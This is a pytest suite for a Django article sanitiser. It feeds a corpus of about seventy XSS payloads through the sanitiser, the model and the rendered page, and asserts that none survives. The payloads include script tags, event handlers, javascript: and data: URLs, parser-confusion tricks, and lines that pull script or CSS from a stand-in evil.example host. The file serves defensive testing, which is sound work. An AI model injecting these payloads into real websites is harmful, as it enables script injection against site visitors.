"""A corpus of XSS payloads: none survives the sanitiser, through the model."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest

from articles.sanitizer import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_html
from tests.factories import make_article

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/a.jpg onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+>",
    '<img src="/media/../../x" onload="alert(1)">',
    "<img srcset=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    '<a href="https://ok.example/" onmouseover=alert(1)>x</a>',
    '<a href="https://ok.example/" target="_blank" style="position:fixed">x</a>',
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onpointerover="alert(1)">x</div>',
    "<p onclick=alert(1)>x</p>",
    '<h2 onmouseenter="alert(1)">titre</h2>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<figure class="image" onclick="alert(1)"><img src="/media/a.jpg"></figure>',
    '<figure class="image evil-class"><figcaption onclick=alert(1)>x</figcaption></figure>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<p id="x" name="y" data-x="1" tabindex=1 accesskey=x>x</p>',
    '<a href="https://ok.example/" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="#" onclick="alert(1)//">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<a href="https://ok.example/"><img src="/media/a.jpg" onerror="alert(1)"></a>',
    '<img src="/media/a.jpg" width="100" height="100%" alt="ok">',
]

DANGEROUS_SCHEMES = re.compile(r"^(javascript|vbscript|data|file):", re.I)
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "srcset"}


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def problems_in(html):
    found = []
    collector = Collector()
    collector.feed(html)
    for tag, attrs in collector.elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"tag {tag}")
        for name, value in attrs:
            value = unescape(value or "")
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel", "class"}:
                found.append(f"attribute {name} on {tag}")
            if name.startswith("on") or name == "style":
                found.append(f"attribute {name}")
            cleaned = re.sub(r"[\x00-\x20]", "", value)
            if name in URL_ATTRIBUTES and DANGEROUS_SCHEMES.match(cleaned):
                found.append(f"url {value}")
            if tag == "img" and name == "src" and not value.startswith("/media/"):
                found.append(f"foreign image {value}")
            if name == "class" and not set(value.split()) <= {
                "image",
                "image-captioned",
                "image-left",
                "image-center",
                "image-right",
            }:
                found.append(f"class {value}")
    return found


def test_corpus_is_large_enough():
    """The corpus holds at least 50 distinct payloads."""
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_sanitiser(payload):
    """Nothing executable, styled or foreign is left after sanitising."""
    cleaned = sanitize_html(f"<p>avant</p>{payload}<p>après</p>")
    assert problems_in(cleaned) == []
    assert "<script" not in cleaned.lower()
    # Sanitising is stable: cleaning again changes nothing.
    assert sanitize_html(cleaned) == cleaned


@pytest.mark.django_db
def test_payloads_saved_in_an_article_body_are_neutralised():
    """The whole corpus, saved at once in a body, is stored harmless."""
    article = make_article(body="".join(PAYLOADS))
    article.refresh_from_db()
    assert problems_in(article.body) == []


def test_the_checker_catches_what_it_looks_for():
    """The corpus check is not vacuous: raw payloads fail it."""
    assert problems_in('<a href="java&#x09;script:alert(1)">x</a>')
    assert problems_in('<p onclick="x">x</p>')
    assert problems_in('<img src="https://tracker.example/p.gif">')
    assert problems_in("<svg></svg>")


def _rendered_body(client, article):
    page = client.get(article.get_absolute_url()).content.decode()
    marker = '<div class="article__body prose">'
    start = page.index(marker) + len(marker)
    return page[start : page.index("</div>", start)]


@pytest.mark.django_db
@pytest.mark.parametrize("writer", ["update", "bulk_update"])
def test_a_body_written_around_the_model_is_still_harmless_on_the_page(client, writer):
    """``.update()`` and ``bulk_update`` skip ``save()`` and store the body raw; the
    page sanitises it again, so not one payload reaches a reader."""
    from articles.models import Article

    article = make_article(body="<p>Propre.</p>")
    raw = "<p>Texte gardé.</p>" + "".join(PAYLOADS)
    if writer == "update":
        Article.objects.filter(pk=article.pk).update(body=raw)
    else:
        article.body = raw
        Article.objects.bulk_update([article], ["body"])
    article.refresh_from_db()
    assert problems_in(article.body), "the write did go around the sanitiser"

    body = _rendered_body(client, article)
    assert "Texte gardé." in body
    assert problems_in(body) == []
    assert "<script" not in body.lower()
